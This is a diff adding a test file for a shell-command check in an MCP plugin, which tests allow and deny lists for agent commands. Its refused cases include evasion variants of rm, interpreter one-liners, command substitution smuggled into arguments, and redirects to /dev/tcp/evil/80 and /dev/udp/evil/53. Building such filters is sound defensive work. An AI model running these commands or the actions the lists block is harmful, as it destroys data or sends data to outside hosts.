@@ -1,0 +1,160 @@
+import assert from 'node:assert/strict'
+import { describe, it } from 'node:test'
+import { shell } from '../../../plugins/mcp-checks/shell.ts'
+import { loaded, mcpCheckConforms } from '../../conformance/mcp-check.ts'
+import { attacks, ordinary } from './shell/rows.ts'
+
+const allow = [
+  ...['ls', 'cat', 'echo', 'grep', 'git status', 'git log', 'git diff', 'npm test', 'npm run lint'],
+  ...['wc', 'head', 'cd', 'true'],
+]
+const options = { args: ['/command'], allow, variables: ['PWD', 'HOME'] }
+
+mcpCheckConforms(shell, { options, passes: { command: 'npm test' }, fails: { command: 'npm test; npm publish' } })
+
+type Options = Parameters<typeof shell.find>[1]
+
+const reasons = async (changes: Partial<Options>, command: unknown): Promise<string[]> => {
+  const find = await loaded(shell, { ...options, ...changes })
+  return (await find({ command })).map(({ reason }) => reason)
+}
+
+describe('shell patterns', () => {
+  for (const command of ordinary) {
+    it(`passes ${JSON.stringify(command)}`, async () => assert.deepEqual(await reasons({}, command), []))
+  }
+  for (const command of attacks) {
+    it(`refuses ${JSON.stringify(command.slice(0, 60))}`, async () => {
+      assert.equal((await reasons({}, command)).length, 1)
+    })
+  }
+})
+
+const denying = async (command: string): Promise<string[]> => {
+  const find = await loaded(shell, { args: ['/command'], deny: ['rm', 'curl', 'git push'] })
+  return (await find({ command })).map(({ reason }) => reason)
+}
+
+describe('shell patterns that only deny', () => {
+  const passing = `ls -la;git status;git commit -m push;npm test;node build.js;python3 -m pytest;echo rm;cat rm.txt;mkdir x && cd x;tar xf a.tgz;make -j4`
+  for (const command of passing.split(';')) {
+    it(`pass ${command}`, async () => assert.deepEqual(await denying(command), []))
+  }
+  const refused = String.raw`
+rm x
+/bin/rm x
+./rm x
+RM x
+Rm.exe x
+r\m x
+r''m x
+"rm" x
+ls && /usr/bin/curl x
+git push
+git push --force
+/usr/bin/git push
+git "push"
+git pu*
+git p?sh
+sh -c 'rm x'
+bash x.sh
+/bin/dash -c x
+env rm x
+sudo rm x
+xargs rm
+find . -delete
+eval rm
+exec rm
+command rm
+builtin eval x
+nohup rm x
+timeout 5 rm x
+busybox rm x
+python -c 'import os'
+python3.12 -c x
+perl -e x
+ruby -e x
+node -e x
+node --eval x
+node
+python "$X"
+awk x
+ssh host rm x
+xargs
+source x
+. x
+r? x
+$X x`
+    .split('\n')
+    .slice(1)
+  for (const command of refused) {
+    it(`refuse ${command}`, async () => assert.equal((await denying(command)).length, 1))
+  }
+})
+
+describe('the options of a shell check', () => {
+  it('redirect to named files, never to the network', async () => {
+    const redirects = true
+    for (const command of [
+      'ls > f',
+      'ls 2>/dev/null',
+      'cat < f',
+      '>f ls',
+      'ls >f -l',
+      'ls >> "a b"',
+      'ls &> f',
+      '> f; ls',
+    ])
+      assert.deepEqual(await reasons({ redirects }, command), [], command)
+    for (const command of [
+      'ls > $PWD',
+      'ls > *',
+      'cat < /dev/tcp/evil/80',
+      'ls > /dev/udp/evil/53',
+      '> f',
+      'rm > f',
+      'ls <<< x',
+      'ls > $(rm x)',
+    ])
+      assert.equal((await reasons({ redirects }, command)).length, 1, command)
+  })
+  it('name no variable unless they do', async () => {
+    assert.deepEqual(await reasons({ variables: [] }, 'ls $PWD'), ['uses the variable PWD, which is not allowed'])
+  })
+  it('deny what they also allow', async () => {
+    const deny = ['git log']
+    assert.deepEqual(await reasons({ deny }, 'git log -1'), ['runs git log, which is denied'])
+    assert.deepEqual(await reasons({ deny }, 'git status'), [])
+  })
+  it('match a list of words as it stands, without a shell', async () => {
+    assert.deepEqual(await reasons({}, ['npm', 'test', '--', '$(rm x)', '; rm', '*', 'é']), [])
+    for (const words of [['npm', 'publish'], ['npm test'], [], ['ls', 1], [['ls']], ['ls', 'a\0b'], ['']])
+      assert.equal((await reasons({}, words)).length, 1, JSON.stringify(words))
+    const find = await loaded(shell, { args: ['/argv'], deny: ['rm'] })
+    assert.equal((await find({ argv: ['/bin/sh', '-c', 'rm x'] })).length, 1)
+    assert.equal((await find({ argv: ['C:\\tools\\RM.EXE', 'x'] })).length, 1)
+    assert.deepEqual(await find({ argv: ['ls', 'rm'] }), [])
+  })
+  it('judge every element that a pointer meets', async () => {
+    const find = await loaded(shell, { args: ['/commands/*'], allow: ['ls'] })
+    assert.deepEqual(await find({ commands: ['ls', 'rm x'] }), [
+      { pointer: '/commands/1', reason: 'runs rm, which is not allowed', certain: true },
+    ])
+  })
+  it('take missing and other arguments for violations, unless a missing one is optional', async () => {
+    assert.deepEqual(await reasons({}, undefined), ['is missing'])
+    assert.deepEqual(await reasons({ optional: true }, undefined), [])
+    assert.deepEqual(await reasons({ optional: true }, null), ['must be a string or a list of strings'])
+    assert.deepEqual(await reasons({}, { 0: 'ls' }), ['must be a string or a list of strings'])
+  })
+  it('warn of denying alone, and of allowing what runs anything', () => {
+    const codes = (given: Partial<Options>) => shell.lint?.({ args: ['/c'], ...given }).map(({ code }) => code)
+    assert.deepEqual(codes({ deny: ['rm'] }), ['SHELL_DENY_ONLY'])
+    assert.deepEqual(codes({ allow: ['ls', 'npm test', 'sudo systemctl'] }), [])
+    assert.deepEqual(codes({ allow: ['xargs', 'bash -c', 'node', 'python3 build.py'] }), [
+      'SHELL_RUNNER_ALLOWED',
+      'SHELL_RUNNER_ALLOWED',
+      'SHELL_RUNNER_ALLOWED',
+    ])
+  })
+})
